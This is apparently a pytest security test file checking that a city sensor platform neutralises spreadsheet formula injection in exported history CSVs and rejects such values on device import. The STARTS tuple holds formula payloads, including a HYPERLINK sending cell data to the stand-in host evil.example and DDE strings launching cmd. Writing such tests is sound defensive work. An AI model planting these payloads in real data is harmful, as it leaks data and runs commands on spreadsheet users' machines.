"""Attack 6: registry text that a spreadsheet runs, through a consumer's history CSV."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import psycopg
import pytest

from tests.streams.conftest import Town

pytestmark = [pytest.mark.integration, pytest.mark.security]

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"details")'
STARTS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1", "\r=1+1")  # fmt: skip


def test_registry_text_that_starts_a_formula_is_neutralised_in_history_csv(town: Town) -> None:
    """Districts stored before validation existed (or written by SQL): every formula start
    comes out as text, and a negative number stays a number."""
    air = f"{town.prefix}air-n1"
    at = datetime.now(UTC) - timedelta(minutes=5)
    town.write("air_sensor", [(at, air, 12.0, None, None, None, -5.5, None)])
    g = town.grant("environment", consumer="planning", device_types=["air_sensor"],
                   metrics=["pm25", "temperature_c"])  # fmt: skip
    got = {}
    for district in STARTS:
        with psycopg.connect(town.db_url, autocommit=True) as conn:
            conn.execute("UPDATE devices SET district = %s WHERE device_id = %s", (district, air))
        with town.http("planning") as h:
            start = (at - timedelta(minutes=1)).isoformat()
            r = h.get("/v1/history", params={"grant_id": g["id"], "format": "csv",
                                             "start": start})  # fmt: skip
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
        assert {row["metric"] for row in rows} == {"pm25", "temperature_c"}
        got[district] = {row["district"] for row in rows}
        assert {row["metric"]: row["value"] for row in rows} == {
            "pm25": "12.0",
            "temperature_c": "-5.5",
        }
    assert got == {d: {"'" + d} for d in STARTS}


def test_the_registry_refuses_a_district_that_is_not_a_name(tmp_path: Path, db_url: str) -> None:
    lines = ["device_id,device_type,service,district", "ok-1,streetlight,lighting,Saint-Gilles"]
    lines += [f'bad-{i},streetlight,lighting,"{d}"' for i, d in enumerate(STARTS)]
    fleet = tmp_path / "fleet.csv"
    fleet.write_text("\n".join(lines) + "\n", encoding="utf-8")
    clean = {k: v for k, v in os.environ.items() if not k.startswith("SILOBREAK_")}
    done = subprocess.run(
        [sys.executable, "-m", "silobreak", "devices", "import", str(fleet),
         "--secrets-out", str(tmp_path / "secrets.csv")],
        env={**clean, "SILOBREAK_DATABASE_URL": db_url}, cwd=tmp_path, capture_output=True,
        text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    assert "district" in done.stderr
    assert "evil.example" in done.stderr or "HYPERLINK" in done.stderr
    with psycopg.connect(db_url, autocommit=True) as conn:
        row = conn.execute("SELECT count(*) FROM devices").fetchone()
    assert row == (0,)  # all or nothing: the good line was not imported either
